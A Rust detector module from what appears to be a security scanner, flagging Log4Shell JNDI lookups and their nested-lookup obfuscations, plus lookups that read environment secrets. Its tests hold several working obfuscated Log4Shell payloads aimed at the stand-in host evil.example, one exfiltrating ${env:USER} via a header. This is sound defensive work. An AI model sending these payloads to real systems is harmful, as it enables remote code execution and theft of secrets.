//! Log4j lookups (Log4Shell, CVE-2021-44228) with their nested-lookup obfuscations.
//!
//! Log4j evaluates `${...}` lookups from the innermost out, so `${${lower:j}ndi:...}`,
//! `${${::-j}${::-n}di:...}` and `${${env:NaN:-j}ndi:...}` all become `${jndi:...}`. This
//! module evaluates lookups the same way, a bounded number of times, with the rules that
//! obfuscations rely on: `${prefix:name:-default}` gives the default, `${lower:x}` and
//! `${upper:x}` give `x`, `${date:'x'}` gives `x`. Other lookups give the empty string.
//!
//! - `jndi.lookup`: a `${jndi:` lookup after evaluation.
//! - `jndi.exfiltration`: other Log4j lookups that read secrets or the environment
//!   (`${env:AWS_SECRET_ACCESS_KEY}`, `${sys:user.name}`, `${java:version}`).

use crate::finding::Confidence;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct JndiMatch {
    pub rule_id: &'static str,
    pub confidence: Confidence,
    pub at: usize,
}

/// Most lookups evaluated per value. Each evaluation removes one `${`, so a value with
/// more lookups than this is cut short and its remaining text checked as it is.
const MAX_LOOKUPS: usize = 32;

/// Bytes evaluated from the first `${`, bounding the work to `MAX_LOOKUPS` passes over
/// this many bytes.
const MAX_WINDOW_BYTES: usize = 16 * 1024;

/// Lookup prefixes of Log4j 2 that read the host, the process or its configuration.
const SECRET_LOOKUPS: &[&str] = &[
    "env", "sys", "java", "main", "bundle", "ctx", "docker", "k8s", "spring", "web", "hostname", "log4j", "sd",
    "marker",
];

pub fn detect(text: &str) -> Option<JndiMatch> {
    let first = text.find("${")?;
    let window_end = crate::finding::floor_char_boundary(text, first + MAX_WINDOW_BYTES);
    let mut current = text[first..window_end].to_string();
    let mut secret_lookup = false;

    for _ in 0..MAX_LOOKUPS {
        let lower = current.to_ascii_lowercase();
        if lower.contains("${jndi:") {
            return Some(JndiMatch { rule_id: "jndi.lookup", confidence: Confidence::High, at: first });
        }
        let Some((start, end)) = innermost_lookup(&current) else { break };
        let body = &current[start + 2..end];
        let (replacement, reads_secret) = evaluate(body);
        secret_lookup |= reads_secret;
        current.replace_range(start..=end, &replacement);
    }

    if current.to_ascii_lowercase().contains("jndi:") {
        // An evaluation left `jndi:` next to lookups that were cut off by the limit.
        return Some(JndiMatch { rule_id: "jndi.lookup", confidence: Confidence::Medium, at: first });
    }
    secret_lookup.then_some(JndiMatch { rule_id: "jndi.exfiltration", confidence: Confidence::Medium, at: first })
}

/// Finds a `${...}` with no `${` inside; returns the positions of `$` and `}`.
fn innermost_lookup(text: &str) -> Option<(usize, usize)> {
    let bytes = text.as_bytes();
    let mut open = None;
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'$' && bytes.get(i + 1) == Some(&b'{') {
            open = Some(i);
            i += 2;
            continue;
        }
        if bytes[i] == b'}'
            && let Some(start) = open
        {
            return Some((start, i));
        }
        i += 1;
    }
    None
}

/// Evaluates the body of one lookup; returns its value and whether it reads a secret.
fn evaluate(body: &str) -> (String, bool) {
    // `${anything:-default}` (and `${::-x}`) evaluates to its default.
    if let Some(position) = body.find(":-") {
        return (body[position + 2..].to_string(), false);
    }
    let Some((prefix, rest)) = body.split_once(':') else {
        return (String::new(), false);
    };
    let prefix = prefix.trim().to_ascii_lowercase();
    match prefix.as_str() {
        "lower" | "upper" => (rest.to_string(), false),
        "date" => (rest.trim_matches('\'').to_string(), false),
        _ if SECRET_LOOKUPS.contains(&prefix.as_str()) => (String::new(), true),
        _ => (String::new(), false),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn jndi_cases() {
        let attacks = [
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:ldap://evil.example/a}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//evil.example/a}",
            "${jNdI:dns://evil.example}",
            "${${upper:j}${upper:n}${lower:d}i:rmi://x/y}",
            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://x}",
            "X-Api-Version: ${jndi:ldap://${env:USER}.evil.example/a}",
        ];
        for input in attacks {
            assert_eq!(detect(input).map(|m| m.rule_id), Some("jndi.lookup"), "input {input:?}");
        }
        assert_eq!(detect("${env:AWS_SECRET_ACCESS_KEY}").map(|m| m.rule_id), Some("jndi.exfiltration"));
    }

    #[test]
    fn jndi_near_misses() {
        for input in ["${price}", "costs $5", "${user.name} welcome", "{jndi}", "${a}${b}${c}"] {
            assert_eq!(detect(input), None, "input {input:?}");
        }
    }

    #[test]
    fn deep_nesting_is_bounded() {
        let value = format!("{}x{}", "${".repeat(10_000), "}".repeat(10_000));
        assert_eq!(detect(&value), None);
    }
}
